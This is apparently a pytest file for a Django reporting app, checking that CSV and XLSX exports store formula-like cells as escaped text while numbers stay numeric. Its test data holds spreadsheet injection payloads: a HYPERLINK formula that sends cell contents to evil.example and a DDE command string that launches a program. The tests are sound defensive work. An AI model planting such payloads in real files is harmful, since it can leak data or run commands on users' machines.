"""Exports never hand a spreadsheet a formula: a text cell starting with =, +, -, @, a tab or a
carriage return is written as text behind an apostrophe; numbers (negative ones too) stay
numbers. One helper (reports.exports.escape_formula) serves every export."""

import csv
import io

import pytest
from openpyxl import load_workbook

from calls.models import CallProduct
from reports.exports import export_response
from tests.reports.test_opportunity import URL as OPPORTUNITY
from tests.reports.test_opportunity import effort  # noqa: F401 (fixture)
from tests.reports.test_pages import PERIOD

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
ROWS = [{"name": text, "n": -3, "share": -0.25} for text in DANGEROUS]
COLUMNS = [("name", "=Name"), ("n", "N"), ("share", "Share (%)", "percent")]


def test_csv_cells_that_start_like_a_formula_are_text():
    response = export_response(ROWS, COLUMNS, "table", "csv")
    header, *lines = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))

    assert header == ["'=Name", "N", "Share (%)"]
    assert [line[0] for line in lines] == ["'" + text for text in DANGEROUS]
    assert {(line[1], line[2]) for line in lines} == {("-3", "-25.0")}  # numbers, unescaped


def test_xlsx_cells_that_start_like_a_formula_are_strings_not_formulas():
    response = export_response(ROWS, COLUMNS, "table", "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    header, *lines = list(sheet.iter_rows())

    assert header[0].value == "'=Name" and header[0].data_type == "s"
    for line, text in zip(lines, DANGEROUS, strict=True):
        assert line[0].data_type == "s", line[0].value
        # (XML stores a carriage return as a line feed)
        assert line[0].value == "'" + text.replace("\r", "\n")
        assert line[1].value == -3 and line[1].data_type == "n"
        assert line[2].value == -0.25 and line[2].data_type == "n"


@pytest.mark.django_db
def test_a_product_named_like_a_formula_exports_as_text(effort, login):  # noqa: F811
    effort.px.name = "=cmd|' /C calc'!A0"
    effort.px.save()
    CallProduct.objects.create(call=effort.a1_call, product=effort.px, adoption_stage="trial")
    query = {"period": PERIOD, "district": effort.district_x.pk, "table": "adoption"}
    client = login(effort.dm_x)

    sheet = load_workbook(
        io.BytesIO(client.get(OPPORTUNITY, {**query, "format": "xlsx"}).content)
    ).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert cells and all(c.value == "'=cmd|' /C calc'!A0" and c.data_type == "s" for c in cells)

    text = client.get(OPPORTUNITY, {**query, "format": "csv"}).content.decode("utf-8-sig")
    assert {line[1] for line in list(csv.reader(io.StringIO(text)))[1:]} == {"'=cmd|' /C calc'!A0"}
